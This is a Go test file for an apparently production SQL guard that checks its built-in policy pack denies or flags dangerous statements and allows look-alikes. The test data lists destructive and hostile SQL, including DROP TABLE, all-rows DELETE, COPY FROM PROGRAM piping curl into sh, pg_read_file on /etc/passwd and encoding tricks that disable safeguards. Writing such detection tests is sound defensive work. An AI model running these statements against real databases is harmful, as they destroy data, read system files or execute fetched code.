package builtin_test

import (
	"context"
	"testing"

	"github.com/vigil-audit/vigil/internal/classify"
	"github.com/vigil-audit/vigil/internal/policy"
	"github.com/vigil-audit/vigil/internal/policy/builtin"
)

// TestSQLPackWithTheParser runs SQL text through the real classifier (the
// PostgreSQL parser) and the built-in pack: obfuscations are caught, look-alikes
// stay allowed, and the reason is the expected rule.
func TestSQLPackWithTheParser(t *testing.T) {
	rs, err := builtin.Load()
	if err != nil {
		t.Fatal(err)
	}
	e := policy.NewEngine(rs, policy.Defaults{})
	policy.RegisterClassifiers(e)
	cases := []struct {
		sql    string
		effect string
		rule   string
	}{
		{"DROP TABLE users", "deny", "sql.drop"},
		{"select 1; dRoP tAbLe \"users\" cascade", "deny", "sql.drop"},
		{"TRUNCATE users", "deny", "sql.truncate"},
		{"DELETE FROM users", "deny", "sql.all-rows-write"},
		{"DELETE /* harmless */ FROM users WHERE 1=1", "deny", "sql.all-rows-write"},
		{"WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", "deny", "sql.all-rows-write"},
		{"EXPLAIN ANALYZE UPDATE accounts SET balance = 0", "deny", "sql.all-rows-write"},
		{"PREPARE p AS DELETE FROM users", "deny", "sql.all-rows-write"},
		{"ALTER TABLE users DROP COLUMN email", "review", "sql.drop-column"},
		{"ALTER ROLE bob SUPERUSER", "review", "sql.privilege-escalation"},
		{"GRANT pg_execute_server_program TO bob", "review", "sql.privilege-escalation"},
		{"COPY users FROM PROGRAM 'curl x | sh'", "deny", "sql.server-access"},
		{"SELECT pg_read_file('/etc/passwd')", "deny", "sql.server-access"},
		{"SET session_replication_role = replica", "deny", "sql.safeguard-off"},
		// PostgreSQL takes the last analyze option: this runs the DELETE.
		{"EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM users", "deny", "sql.all-rows-write"},
		// Settings under which PostgreSQL ends strings where the parser does not.
		{"SET client_encoding = 'SJIS'", "deny", "sql.safeguard-off"},
		{"SET NAMES 'big5'", "deny", "sql.safeguard-off"},
		{"SET standard_conforming_strings = off", "deny", "sql.safeguard-off"},
		{"SELECT set_config('standard_conforming_strings', $1, false)", "deny", "sql.safeguard-off"},
		{"DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$", "review", "sql.dynamic-sql"},
		{"SELEC * FRM users", "review", "sql.unparseable"},
		// Look-alikes: dangerous words only in literals, comments and names.
		{"SELECT 'DROP TABLE users'", "allow", ""},
		{"SELECT * FROM users WHERE note = 'DELETE FROM x' -- DROP TABLE users", "allow", ""},
		{"DELETE FROM users WHERE id = 5", "allow", ""},
		{"UPDATE accounts SET balance = balance - $1 WHERE id = $2", "allow", ""},
		{"SELECT drop_count FROM stats", "allow", ""},
		{"EXPLAIN DELETE FROM users", "allow", ""},
	}
	for _, c := range cases {
		d, err := e.Decide(context.Background(), &classify.Action{Kind: "sql", Environment: "production", Actor: classify.Actor{User: "alice"}, SQL: c.sql})
		if err != nil {
			t.Fatalf("%q: %v", c.sql, err)
		}
		if d.Effect != c.effect {
			t.Errorf("%q: effect %s (%s); want %s by %s", c.sql, d.Effect, d.Message, c.effect, c.rule)
			continue
		}
		if c.rule == "" {
			if len(d.Rules) != 0 {
				t.Errorf("%q: allowed, but rules matched: %+v", c.sql, d.Rules)
			}
			continue
		}
		found := false
		for _, r := range d.Rules {
			found = found || r.ID == c.rule
		}
		if !found {
			t.Errorf("%q: %s, but not by %s: %+v", c.sql, d.Effect, c.rule, d.Rules)
		}
	}
	// Outside production the pack does not apply.
	d, err := e.Decide(context.Background(), &classify.Action{Kind: "sql", Environment: "staging", SQL: "DROP TABLE users"})
	if err != nil || d.Effect != "allow" {
		t.Fatalf("staging DROP: %v %v; want allow (the pack is for production)", d, err)
	}
}
